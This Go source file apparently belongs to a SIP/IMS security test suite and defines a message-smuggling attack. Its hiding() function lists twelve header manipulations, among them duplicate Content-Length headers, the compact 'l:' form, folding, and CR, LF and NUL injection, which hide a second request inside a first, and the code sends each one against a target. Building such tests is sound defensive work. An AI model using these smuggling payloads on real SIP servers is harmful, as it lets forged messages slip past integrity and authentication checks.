package attack

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// streamSmuggle: one message for one reader, two for another.
func streamSmuggle() Attack {
	return Attack{
		ID: "ci.stream.smuggle", Number: "CI-23", Title: "a second message hidden in the first",
		Text:     "what one function has judged would not be what the next one reads",
		Services: []Service{Integrity, Authentication}, Stride: Tampering, Threats: []Threat{Corruption}, Module: ServicesControl,
		Source: "RFC 3261 18.3", Access: []Access{TLS}, Carried: []Access{TCP},
		Bounds:   Bounds{Packets: 120, Bytes: 120_000, Conns: 14, Time: 3 * time.Second},
		Variants: []Variant{{Position: Subscriber, Run: hideMessages, Controls: []secure.ControlID{secure.CIIntegrityFramer}}},
	}
}

// hiding are the ways: what stands in the outer header in the place of its length, when the hidden message has so many octets.
func hiding(length int) []string {
	return []string{
		fmt.Sprintf("Content-Length: 0\r\nContent-Length: %d", length), fmt.Sprintf("Content-Length: %d\r\nContent-Length: 0", length),
		fmt.Sprintf("Content-Length: 0\r\nl: %d", length), fmt.Sprintf("Content-Length : 0\r\nContent-Length: %d", length),
		fmt.Sprintf("l: 0\r\nContent-Length:\r\n %d", length), fmt.Sprintf("Content-Length: 0\r\nContent-Length: %d, 0", length),
		fmt.Sprintf("Content-Length: 0;x=%d", length), fmt.Sprintf("Subject: a\nContent-Length: %d\r\nContent-Length: 0", length),
		fmt.Sprintf("Subject: a\rContent-Length: %d\r\nContent-Length: 0", length),
		fmt.Sprintf("Subject: a\x00Content-Length: %d\r\nContent-Length: 0", length),
		"Subject: a\n\nContent-Length: 0", "Subject: none",
	}
}

func hideMessages(ctx context.Context, f *Field, o *Outcome) error {
	carol, err := f.Carol(ctx)
	if err != nil {
		return err
	}
	closed := 0
	ways := hiding(0)
	for i := range ways {
		mallory, err := f.Mallory(ctx)
		if err != nil {
			return err
		}
		hidden := mallory.Message(f.Users[Carol].IMPU, hiddenText(i))
		outer := mallory.Message(f.Users[Carol].IMPU, "")
		if err := mallory.Write(strings.Replace(outer, "Content-Length: 0", hiding(len(hidden))[i], 1) + hidden); err != nil {
			return err
		}
		// A message behind it is answered, or the connection has ended: either way the target has read what came before.
		_, err = mallory.Ask(ctx, mallory.Message(f.Users[Carol].IMPU, "behind"))
		if errors.Is(err, ErrClosed) {
			closed++
		} else if err != nil {
			return err
		}
		mallory.Close()
	}
	o.Arrived("%d byte strings; the target ends %d connections", len(ways), closed)
	if err := f.Bob.UE.SendMessage(ctx, carol.IMPU, "text/plain", []byte("the end")); err != nil {
		return err
	}
	forwarded, way := 0, "none"
	for _, m := range carol.seen() {
		for i := range ways {
			if m.IsRequest() && string(m.Body()) == hiddenText(i) {
				forwarded, way = forwarded+1, fmt.Sprintf("%q", ways[i])
			}
		}
	}
	o.Users = min(forwarded, 1)
	o.Peer(forwarded > 0, "of %d hidden messages %d arrive at carol, the last by %s", len(ways), forwarded, way)
	o.Wire(false, "%s", o.Delivered)
	return nil
}

func hiddenText(i int) string { return fmt.Sprintf("hidden %d", i) }

// seen takes all that has come so far.
func (h *Hand) seen() []*sip.Message {
	all := h.backlog
	h.backlog = nil
	for {
		select {
		case m := <-h.inbox:
			all = append(all, m)
		default:
			return all
		}
	}
}
